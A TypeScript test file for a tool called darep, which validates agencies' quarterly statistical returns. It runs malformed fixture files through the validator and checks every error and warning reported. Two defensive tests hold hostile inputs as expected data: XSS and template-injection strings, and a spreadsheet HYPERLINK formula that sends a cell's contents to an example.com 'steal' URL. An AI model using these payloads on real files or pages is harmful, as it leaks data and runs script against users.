// Every error and warning the returns contract names (docs/returns.md, "What makes a return
// invalid"), each held by a small file in fixtures/bad/ named after it, run through the real pipeline:
// the fixture is copied into a workspace as an agency's 2026-27 Q2 return and checked by validate(),
// the library call behind `darep validate`. Each test states every issue the file gives, and where.
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { validate, type ValidationResult } from "../../src/api/validate.js";
import { listReturns } from "../../src/workspace/returns-folder.js";
import { loadWorkspace } from "../../src/workspace/load.js";
import type { Issue } from "../../src/types.js";
import { darep, DEMO } from "../helpers/cli.js";

const TODAY = "2026-11-25";
const fixture = (name: string) => join(DEMO, "..", "bad", name);
const Q2 = "returns/2026-27/Q2";

/** A workspace with the demo's config and these files: workspace path -> fixture name, or "demo:<path>". */
function workspaceWith(files: Record<string, string>): string {
  const root = mkdtempSync(join(tmpdir(), "darep-bad-"));
  writeFileSync(join(root, "darep.config.json"), readFileSync(join(DEMO, "darep.config.json")));
  for (const [dest, source] of Object.entries(files)) {
    mkdirSync(dirname(join(root, dest)), { recursive: true });
    copyFileSync(source.startsWith("demo:") ? join(DEMO, source.slice(5)) : fixture(source), join(root, dest));
  }
  return root;
}

async function validateIn(root: string, targets: string[]): Promise<ValidationResult> {
  const ws = await loadWorkspace({ workspace: root, cwd: root });
  return validate(ws, { targets, cwd: root, today: TODAY });
}

/** The fixture as `as` (e.g. "probation-service.csv") in 2026-27 Q2, optionally with the demo's Q1 return of the same agency. */
async function checkFixture(name: string, as: string, opts: { previous?: boolean } = {}) {
  const file = `${Q2}/${as}`;
  const files: Record<string, string> = { [file]: name };
  if (opts.previous) files[`returns/2026-27/Q1/${as}`] = `demo:returns/2026-27/Q1/${as}`;
  const result = await validateIn(workspaceWith(files), [file]);
  expect(result.issues).toEqual([]);
  expect(result.files.map((f) => f.file)).toEqual([file]);
  return { file, check: result.files[0]!, issues: result.files[0]!.issues };
}

/** Code, severity and the full place of an issue. */
const placed = (i: Issue) => ({ code: i.code, severity: i.severity, file: i.file, sheet: i.sheet, row: i.row, cell: i.cell, column: i.column });
const inFile =
  (file: string, sheet?: string) =>
  (code: string, row?: number, cell?: string, column?: string, severity = "error") => ({ code, severity, file, sheet, row, cell, column });

describe("the contract's errors, one fixture each", () => {
  // [fixture, returned as, issues as (code, row, cell, column)]
  const cases: [string, string, [string, number?, string?, string?][]][] = [
    ["truncated.xlsx", "riverside.xlsx", [["unreadable-file"]]],
    ["pdf-renamed.csv", "probation-service.csv", [["wrong-file-type"]]],
    ["empty.csv", "probation-service.csv", [["empty-file"]]],
    ["no-header-row.csv", "probation-service.csv", [["missing-header", 1]]],
    ["missing-column.csv", "probation-service.csv", [["missing-column", 1, undefined, "value"]]],
    ["unknown-indicator.csv", "public-health.csv", [["missing-indicator"], ["unknown-indicator", 2, "A2", "indicator"]]],
    ["unknown-measure.csv", "probation-service.csv", [["unknown-measure", 2, "B2", "measure"]]],
    ["missing-measure.csv", "probation-service.csv", [["missing-measure", 2, "B2", "measure"]]],
    ["unknown-category.csv", "dcst.csv", [["unknown-category", 4, "C4", "category"]]],
    ["invalid-value.csv", "probation-service.csv", [["invalid-value", 2, "D2", "value"]]],
    ["blank-value.csv", "probation-service.csv", [["blank-value", 2, "D2", "value"]]],
    ["negative-count.csv", "probation-service.csv", [["negative-count", 2, "D2", "value"]]],
    ["fractional-count.csv", "probation-service.csv", [["fractional-count", 2, "D2", "value"]]],
    ["percent-out-of-range.csv", "probation-service.csv", [["percent-out-of-range", 3, "D3", "value"]]],
    ["local-suppression-mark.csv", "probation-service.csv", [["local-suppression-mark", 2, "D2", "value"]]],
    ["formula-error.csv", "probation-service.csv", [["formula-error", 3, "D3", "value"]]],
    ["duplicate-figure.csv", "probation-service.csv", [["duplicate-figure", 4, "D4", "value"]]],
    ["not-reported-by-agency.csv", "probation-service.csv", [["not-reported-by-agency", 4, "A4", "indicator"]]],
    ["missing-indicator.csv", "riverside.csv", [["missing-indicator"]]],
    ["categories-do-not-add-up.csv", "dcst.csv", [["categories-do-not-add-up", 3, "D3", "value"]]],
    ["part-exceeds-whole.csv", "dcst.csv", [["part-exceeds-whole", 6, "D6", "value"]]],
    ["semicolon.csv", "probation-service.csv", [["wrong-delimiter", 1, "A1"]]],
  ];

  it.each(cases)("%s as %s", async (name, as, expected) => {
    const { file, check } = await checkFixture(name, as);
    const sheet = as.endsWith(".xlsx") && !["truncated.xlsx"].includes(name) ? "Return" : undefined;
    expect(check.issues.map(placed)).toEqual(expected.map(([code, row, cell, column]) => inFile(file, sheet)(code, row, cell, column)));
    expect(check.status).toBe("invalid");
  });

  it("says what was found, what was expected, and what to do", async () => {
    expect((await checkFixture("unknown-indicator.csv", "public-health.csv")).issues[1]).toMatchObject({ found: "PM3B", advice: "Did you mean PM38?" });
    expect((await checkFixture("unknown-measure.csv", "probation-service.csv")).issues[0]).toMatchObject({
      found: "completion",
      expected: "one of completions, reoffending-rate",
      advice: "Did you mean 'completions'?",
    });
    expect((await checkFixture("unknown-category.csv", "dcst.csv")).issues[0]).toMatchObject({ found: "child-in-needs", advice: "Did you mean 'child-in-need'?" });
    expect((await checkFixture("missing-indicator.csv", "riverside.csv")).issues[0]).toMatchObject({ indicator: "PM19", expected: "rows for PM19: improved-outcomes" });
    expect((await checkFixture("categories-do-not-add-up.csv", "dcst.csv")).issues[0]).toMatchObject({ found: "categories 416, total 420" });
    expect((await checkFixture("part-exceeds-whole.csv", "dcst.csv")).issues[0]).toMatchObject({ found: "1301", expected: "at most 1229 (Contacts and referrals where domestic abuse is a factor)" });
  });

  it("keeps the figures that passed in a return with errors", async () => {
    const { check } = await checkFixture("negative-count.csv", "probation-service.csv");
    expect(check.figures).toBe(1);
    expect((await checkFixture("categories-do-not-add-up.csv", "dcst.csv")).check.figures).toBe(3);
  });
});

describe("the contract's warnings, one fixture each", () => {
  it("an unknown extra column: a warning, and the return is valid", async () => {
    const { file, check } = await checkFixture("extra-column.csv", "probation-service.csv");
    expect(check.issues.map(placed)).toEqual([inFile(file)("extra-column", 1, "F1", "Checked by", "warning")]);
    expect(check).toMatchObject({ status: "valid", errors: 0, warnings: 1, figures: 2 });
  });

  it("a figure that moved more than threefold against the previous quarter", async () => {
    const { file, check } = await checkFixture("sudden-change.csv", "probation-service.csv", { previous: true });
    expect(check.issues.map(placed)).toEqual([inFile(file)("sudden-change", 2, "D2", "value", "warning")]);
    expect(check.issues[0]).toMatchObject({ found: "40", expected: "near last quarter's 12" });
    expect(check.status).toBe("valid");
  });

  it("a return identical to the agency's previous one", async () => {
    const { file, check } = await checkFixture("identical-to-previous.csv", "probation-service.csv", { previous: true });
    expect(check.issues.map(placed)).toEqual([inFile(file)("identical-to-previous", undefined, undefined, undefined, "warning")]);
    expect(check.status).toBe("valid");
  });

  it("gives neither warning without a previous return", async () => {
    expect((await checkFixture("sudden-change.csv", "probation-service.csv")).issues).toEqual([]);
    expect((await checkFixture("identical-to-previous.csv", "probation-service.csv")).issues).toEqual([]);
  });
});

describe("where the file is", () => {
  it("reports an About sheet that names another agency and quarter than the file's place", async () => {
    const { file, check } = await checkFixture("about-mismatch.xlsx", "riverside.xlsx");
    expect(check.issues.map(placed)).toEqual([inFile(file, "About")("about-mismatch", undefined, undefined, "agency"), inFile(file, "About")("about-mismatch", undefined, undefined, "period")]);
    expect(check.figures).toBe(13); // the figures themselves are good
  });

  it("reports a file in a folder that is not a quarter, and the folder itself", async () => {
    const file = "returns/2026-27/Q5/probation-service.csv";
    const root = workspaceWith({ [file]: "negative-count.csv" });
    const result = await validateIn(root, [file]);
    expect(result.files).toEqual([]);
    expect(result.issues.map(placed)).toEqual([inFile(file)("misplaced-return")]);
    const listed = await listReturns(await loadWorkspace({ workspace: root, cwd: root }));
    expect(listed.issues.map(placed)).toEqual([inFile("returns/2026-27/Q5")("unknown-period")]);
    expect(listed.issues[0]).toMatchObject({ found: "Q5", expected: "Q1, Q2, Q3 or Q4" });
  });

  it("reports a file named for an agency the config does not have", async () => {
    const file = `${Q2}/south-yorks-police.csv`;
    const result = await validateIn(workspaceWith({ [file]: "hostile-notes.csv" }), [file]);
    expect(result.files).toEqual([]);
    expect(result.issues.map(placed)).toEqual([inFile(file)("unknown-agency")]);
    expect(result.issues[0]!.found).toBe("south-yorks-police");
  });

  it("refuses to guess between a .csv and an .xlsx for one agency, and still checks the others", async () => {
    const root = workspaceWith({
      [`${Q2}/riverside.csv`]: "missing-indicator.csv",
      [`${Q2}/riverside.xlsx`]: "about-mismatch.xlsx",
      [`${Q2}/probation-service.csv`]: "negative-count.csv",
      [`${Q2}/notes.ods`]: "unsupported-format.ods",
    });
    const result = await validateIn(root, ["2026-27 Q2"]);
    expect(result.issues.map(placed)).toEqual([inFile(`${Q2}/notes.ods`)("unsupported-format"), inFile(`${Q2}/riverside.csv and riverside.xlsx`)("ambiguous-return")]);
    expect(result.files.map((f) => [f.file, f.errors])).toEqual([[`${Q2}/probation-service.csv`, 1]]);
  });
});

describe("files the reader copes with, through the pipeline", () => {
  it("numbers rows as Excel does in a file with mixed line endings", async () => {
    const { file, check } = await checkFixture("mixed-line-endings.csv", "doncaster-council.csv");
    // \r\n, \n, \r and \r\n end rows 1-4: the PM20 rows are rows 3 and 4.
    expect(check.issues.filter((i) => i.code !== "missing-indicator").map(placed)).toEqual([
      inFile(file)("not-reported-by-agency", 3, "A3", "indicator"),
      inFile(file)("not-reported-by-agency", 4, "A4", "indicator"),
    ]);
    expect(check.issues.filter((i) => i.code === "missing-indicator")).toHaveLength(14); // PM3-PM16
  });

  it("reports a merged cell where it is, and reads the cell that holds the value", async () => {
    const { file, check } = await checkFixture("merged-cells.xlsx", "doncaster-council.xlsx");
    expect(check.issues.filter((i) => i.code !== "missing-indicator").map(placed)).toEqual([
      inFile(file, "Return")("not-reported-by-agency", 2, "A2", "indicator"),
      inFile(file, "Return")("merged-cells", 3, "A3", "indicator"),
    ]);
    expect(check.figures).toBe(2); // PM1 (row 4) and PM2 police (row 5, whose merged note is no problem)
  });

  it("reads 0.15 formatted as a percentage and the text '15%' alike, as 15", async () => {
    const root = workspaceWith({ [`${Q2}/south-yorkshire-police.xlsx`]: "percent-formatted.xlsx" });
    const ws = await loadWorkspace({ workspace: root, cwd: root });
    const { checkReturn } = await import("../../src/workspace/check-return.js");
    const r = await checkReturn(ws, {
      agency: "south-yorkshire-police",
      period: { year: "2026-27", quarter: "Q2" },
      path: join(root, Q2, "south-yorkshire-police.xlsx"),
      file: `${Q2}/south-yorkshire-police.xlsx`,
    });
    expect(r.figures.map((f) => [f.indicator, f.measure, f.value, f.source.cell])).toEqual([
      ["PM21", "charge-rate", 45, "D2"],
      ["PM21", "no-further-action-rate", 15, "D3"], // 0.15 with the format 0.0%
      ["PM24", "reoffending-rate", 15, "D4"], // the text "15%"
      ["PM25", "feel-safer", 45, "D5"], // 45 in a percent measure
      ["PM20", "incidents", 1234567, "D7"],
    ]);
    expect(r.issues.filter((i) => i.code !== "missing-indicator").map(placed)).toEqual([inFile(`${Q2}/south-yorkshire-police.xlsx`, "Return")("not-reported-by-agency", 6, "A6", "indicator")]);
  });

  it("reports a formula without a saved result and a formula error in their cells", async () => {
    const { file, check } = await checkFixture("formula-cells.xlsx", "south-yorkshire-police.xlsx");
    expect(check.issues.filter((i) => i.code !== "missing-indicator").map(placed)).toEqual([
      inFile(file, "Return")("not-reported-by-agency", 2, "A2", "indicator"),
      inFile(file, "Return")("formula-without-result", 3, "D3", "value"),
      inFile(file, "Return")("formula-error", 4, "D4", "value"),
      inFile(file, "Return")("not-reported-by-agency", 5, "A5", "indicator"),
    ]);
  });

  it("keeps hostile notes (HTML, script, a remote image, a javascript: link, template syntax) as plain text", async () => {
    const root = workspaceWith({ [`${Q2}/probation-service.csv`]: "hostile-notes.csv" });
    const ws = await loadWorkspace({ workspace: root, cwd: root });
    const { checkReturn } = await import("../../src/workspace/check-return.js");
    const r = await checkReturn(ws, { agency: "probation-service", period: { year: "2026-27", quarter: "Q2" }, path: join(root, Q2, "probation-service.csv"), file: `${Q2}/probation-service.csv` });
    expect(r.issues).toEqual([]);
    expect(r.status).toBe("received");
    expect(r.figures.map((f) => f.note)).toEqual([
      '<script>alert(1)</script><img src="https://example.com/x.png" onerror="alert(2)">',
      '<a href="javascript:alert(3)">details</a> {{constructor}} {{{raw}}} {{> partial}} ${process.env.HOME} <!-- -->',
    ]);
  });

  it("reads cells starting =, +, - or @ as text: never a figure, and a note kept as written", async () => {
    const root = workspaceWith({ [`${Q2}/probation-service.csv`]: "formula-injection.csv" });
    const ws = await loadWorkspace({ workspace: root, cwd: root });
    const { checkReturn } = await import("../../src/workspace/check-return.js");
    const file = `${Q2}/probation-service.csv`;
    const r = await checkReturn(ws, { agency: "probation-service", period: { year: "2026-27", quarter: "Q2" }, path: join(root, file), file });
    expect(r.issues.map(placed)).toEqual([
      inFile(file)("invalid-value", 2, "D2", "value"),
      inFile(file)("invalid-value", 3, "D3", "value"),
      inFile(file)("negative-count", 4, "D4", "value"),
      inFile(file)("invalid-value", 5, "D5", "value"),
    ]);
    expect(r.issues.map((i) => i.found)).toEqual(["=SUM(A1)", "+12", "-3", "@x"]);
    expect(r.figures.map((f) => [f.measure, f.value, f.note])).toEqual([["reoffending-rate", 16, '=HYPERLINK("https://example.com/steal?d="&A1,"Click for details")']]);
  });
});

describe("darep validate on a bad return", () => {
  it("prints exactly the library's result as JSON, and exits 1", async () => {
    const file = `${Q2}/probation-service.csv`;
    const root = workspaceWith({ [file]: "negative-count.csv" });
    const r = await darep(["validate", file, "--format", "json"], { cwd: root });
    expect(r.code).toBe(1);
    expect(r.stderr).toBe("");
    expect(JSON.parse(r.stdout)).toEqual(JSON.parse(JSON.stringify(await validateIn(root, [file]))));
  });

  it("names the row, cell and column in the text a data officer reads", async () => {
    const file = `${Q2}/probation-service.csv`;
    const r = await darep(["validate", file], { cwd: workspaceWith({ [file]: "negative-count.csv" }) });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("row 2, cell D2 (value): -3 is below zero, but a count cannot be. [negative-count]");
  });

  it("exits 0 for a return with warnings only", async () => {
    const file = `${Q2}/probation-service.csv`;
    const r = await darep(["validate", file], { cwd: workspaceWith({ [file]: "extra-column.csv" }) });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("[extra-column]");
  });
});
